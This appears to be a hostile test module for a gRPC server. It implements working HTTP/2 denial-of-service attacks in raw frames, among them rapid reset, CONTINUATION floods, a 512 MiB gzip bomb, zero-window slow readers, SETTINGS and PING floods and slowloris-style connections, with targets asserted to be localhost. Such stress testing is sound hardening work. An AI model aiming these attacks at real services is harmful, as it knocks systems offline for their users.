"""tests/hostile/attacks.py: attacks on a gRPC port, in raw HTTP/2 frames that no client library would send.

Each attack is a function (target, seconds, rng) -> {action: count}. It runs at full speed for `seconds`, or until the server cuts its
connections and new ones too. Connections and bytes are bounded. The targets must be on this machine.
"""
import contextlib
import dataclasses
import functools
import os
import select
import socket
import struct
import time
import zlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
READS_MAX = 64
GENERATE = "/fathom.v1.Inference/Generate"


@dataclasses.dataclass
class Target:
    host: str
    grpc_port: int
    http_port: int
    message: bytes = b""  # A GenerateRequest that takes long.

    def __post_init__(self):
        assert self.host in ("127.0.0.1", "::1"), "attacks stay on this machine"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header that is not added to the compression table."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path=GENERATE, **more):
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "content-type": "application/grpc", "te": "trailers"}
    return b"".join(literal(k, v) for k, v in {**fields, **{k.replace("_", "-"): v for k, v in more.items()}}.items())


def grpc_message(payload, compressed=False):
    return struct.pack(">BI", compressed, len(payload)) + payload


def data_frames(stream, payload, last=True):
    parts = [payload[i:i + 16384] for i in range(0, len(payload), 16384)] or [b""]
    return b"".join(frame(DATA, END_STREAM if last and i == len(parts) - 1 else 0, stream, p) for i, p in enumerate(parts))


class Connection:
    """One raw connection. `ack`: whether the server's SETTINGS are acknowledged."""

    def __init__(self, target, settings=b"", ack=True, speak=True):
        # If possible, from another address than the checked client's, like a real attacker.
        source = ("127.0.0.2", 0) if target.host == "127.0.0.1" else None
        self.socket = socket.create_connection((target.host, target.grpc_port), timeout=5, source_address=source)
        self.poll = select.poll()  # Not select, which is limited to 1,024 descriptors.
        self.poll.register(self.socket, select.POLLIN)
        self.next_stream = 1
        self.ack = ack
        self.acked = False
        self.buffer = b""
        if speak:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """Raises OSError when the server has closed the connection, or does not read for 5 s."""
        self.socket.sendall(data)
        self.drain()

    def drain(self, seconds=0.0):
        """Reads the received bytes; returns whole frames as (kind, flags, stream, payload)."""
        frames = []
        end = time.monotonic() + seconds
        for _ in range(READS_MAX):  # A server that sends without end holds no attack.
            if not self.poll.poll(1000 * max(0.0, end - time.monotonic())):
                break
            data = self.socket.recv(1 << 16)
            if not data:
                raise ConnectionError("closed by the server")
            self.buffer += data
            while len(self.buffer) >= 9:
                size = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + size:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                payload, self.buffer = self.buffer[9:9 + size], self.buffer[9 + size:]
                frames.append((kind, flags, stream, payload))
                if kind == SETTINGS and not flags & ACK and self.ack:
                    self.socket.sendall(frame(SETTINGS, ACK, 0))
                    self.acked = True
                if kind == PING and not flags & ACK and self.ack:
                    self.socket.sendall(frame(PING, ACK, 0, payload))
        return frames

    def stream(self):
        self.next_stream += 2
        return self.next_stream - 2

    def close(self):
        self.socket.close()


def repeatedly(target, seconds, connections, open_one, act):
    """Calls act(connection) for `connections` connections in turn. A connection that was cut is counted and opened again."""
    counts = {"connections": 0, "cut": 0, "acts": 0}
    alive = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        while len(alive) < connections:
            try:
                alive.append(open_one())
                counts["connections"] += 1
            except OSError:
                counts["refused"] = counts.get("refused", 0) + 1
                time.sleep(0.01)
                break
        for connection in list(alive):
            try:
                act(connection)
                counts["acts"] += 1
            except OSError:
                counts["cut"] += 1
                alive.remove(connection)
                connection.close()
    for connection in alive:
        connection.close()
    return counts


def unacknowledged_settings(target, seconds, rng):
    """Opens streams without end. The limit of streams holds only after the client has acknowledged SETTINGS, which it never does."""
    headers = call_headers()

    def act(c):
        c.send(b"".join(frame(HEADERS, END_HEADERS, c.stream(), headers) for _ in range(100)))

    return repeatedly(target, seconds, 4, lambda: Connection(target, ack=False), act)


def rapid_reset(target, seconds, rng):
    headers = call_headers()

    def act(c):
        pairs = []
        for _ in range(100):
            s = c.stream()
            pairs.append(frame(HEADERS, END_HEADERS, s, headers) + frame(RST_STREAM, 0, s, struct.pack(">I", 8)))
        c.send(b"".join(pairs))

    return repeatedly(target, seconds, 20, lambda: Connection(target), act)


def reset_after_message(target, seconds, rng):
    """Sends whole requests and cancels each one at once. Every request may reach the scheduler."""
    headers = call_headers()

    def act(c):
        parts = []
        for _ in range(20):
            s = c.stream()
            parts.append(frame(HEADERS, END_HEADERS, s, headers) + data_frames(s, grpc_message(target.message)) +
                         frame(RST_STREAM, 0, s, struct.pack(">I", 8)))
        c.send(b"".join(parts))

    return repeatedly(target, seconds, 4, lambda: Connection(target), act)


def endless_continuation(target, seconds, rng):
    """One header that never ends."""
    def open_one():
        c = Connection(target)
        c.send(frame(HEADERS, 0, c.stream(), call_headers()))
        return c

    chunk = literal("x", "y" * 100) * 100

    def act(c):
        c.send(frame(CONTINUATION, 0, 1, chunk))

    return repeatedly(target, seconds, 2, open_one, act)


def calls_without_message(target, seconds, rng):
    """As many calls as a connection may have, without any message."""
    headers = call_headers()

    def act(c):
        if c.next_stream < 2 * 1000:
            c.send(b"".join(frame(HEADERS, END_HEADERS, c.stream(), headers) for _ in range(50)))
        else:
            time.sleep(0.01)
            c.drain()

    return repeatedly(target, seconds, 8, lambda: Connection(target), act)


@functools.cache
def gzip_bomb(unpacked=512 << 20):
    """A gRPC message of 0.5 MB that unpacks to 512 MiB of zeros."""
    packer = zlib.compressobj(9, wbits=31)
    return grpc_message(b"".join(packer.compress(bytes(1 << 20)) for _ in range(unpacked >> 20)) + packer.flush(), compressed=True)


def gzip_bombs(target, seconds, rng):
    bomb = gzip_bomb()
    headers = call_headers(grpc_encoding="gzip", grpc_accept_encoding="identity")

    def act(c):
        s = c.stream()
        c.send(frame(HEADERS, END_HEADERS, s, headers))
        for i in range(0, len(bomb), 16384):  # In pieces that flow control allows: the window is 64 KiB at first.
            c.send(frame(DATA, END_STREAM if i + 16384 >= len(bomb) else 0, s, bomb[i:i + 16384]))
        c.drain(0.05)

    return repeatedly(target, seconds, 2, lambda: Connection(target), act)


def idle_connections(target, seconds, rng, count=1012):
    """Idle connections; every other one sends only its preface."""
    counts = {"connections": 0, "refused": 0}
    held = []
    end = time.monotonic() + seconds
    while len(held) < count and time.monotonic() < end:
        try:
            held.append(Connection(target, speak=len(held) % 2 == 0))
            counts["connections"] += 1
        except OSError:
            counts["refused"] += 1
            time.sleep(0.01)
    while time.monotonic() < end:
        time.sleep(0.05)
    for c in held:
        c.close()
    return counts


def slow_readers(target, seconds, rng):
    """Requests long answers and never reads them: the window is 0."""
    settings = struct.pack(">HI", 4, 0)  # INITIAL_WINDOW_SIZE
    headers = call_headers()

    def act(c):
        if c.next_stream < 2 * 16:
            s = c.stream()
            c.send(frame(HEADERS, END_HEADERS, s, headers) + data_frames(s, grpc_message(target.message)))
        else:
            time.sleep(0.01)
            c.drain()

    return repeatedly(target, seconds, 4, lambda: Connection(target, settings=settings), act)


def reflection_streams(target, seconds, rng, count=3000):
    """Opens streams that send one request and stay open."""
    headers = call_headers("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
    ask = grpc_message(b"\x3a\x01*")  # list_services: "*"

    def act(c):
        if c.next_stream < 2 * count // 4:
            s = c.stream()
            c.send(frame(HEADERS, END_HEADERS, s, headers) + data_frames(s, ask, last=False))
        else:
            time.sleep(0.01)
            c.drain()

    return repeatedly(target, seconds, 4, lambda: Connection(target), act)


def setting_and_ping_floods(target, seconds, rng):
    def act(c):
        c.send(frame(SETTINGS, 0, 0) * 200 + frame(PING, 0, 0, bytes(8)) * 200)

    return repeatedly(target, seconds, 4, lambda: Connection(target), act)


def noise(target, seconds, rng):
    """Frames of random kinds, lengths and contents, and bytes that are no frames."""
    def act(c):
        if rng.random() < 0.3:
            return c.send(rng.randbytes(rng.randrange(1, 2000)))
        c.send(frame(rng.randrange(0, 12), rng.randrange(256), rng.choice([0, 1, 2, 3, 5, 2**31 - 1]), rng.randbytes(rng.randrange(0, 200))))

    return repeatedly(target, seconds, 8, lambda: Connection(target, speak=rng.random() < 0.9), act)


def slow_http(target, seconds, rng, count=200):
    """Connections to the port of /metrics that are silent or never finish their request."""
    held = []
    counts = {"connections": 0}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if len(held) >= count:
            held.pop(rng.randrange(count)).close()
        with contextlib.suppress(OSError):
            held.append(socket.create_connection((target.host, target.http_port), timeout=1))
            if rng.random() < 0.5:
                held[-1].sendall(b"GET /metrics HTTP/1.1\r\nHost:")
            counts["connections"] += 1
        time.sleep(0.002)
    for s in held:
        s.close()
    return counts


ALL = [unacknowledged_settings, rapid_reset, reset_after_message, endless_continuation, calls_without_message, gzip_bombs, idle_connections,
       slow_readers, reflection_streams, setting_and_ping_floods, noise, slow_http]


def process_facts(pid):
    """RSS in MiB, threads, descriptors, CPU seconds of a process."""
    with open(f"/proc/{pid}/status", encoding="utf-8") as file:
        fields = dict(line.split(":", 1) for line in file if ":" in line)
    with open(f"/proc/{pid}/stat", encoding="utf-8") as file:
        stat = file.read().rsplit(")", 1)[1].split()
    cpu = (int(stat[11]) + int(stat[12])) / os.sysconf("SC_CLK_TCK")
    return {"rss": int(fields["VmRSS"].split()[0]) / 1024, "threads": int(fields["Threads"]), "descriptors": len(os.listdir(f"/proc/{pid}/fd")),
            "cpu": cpu}
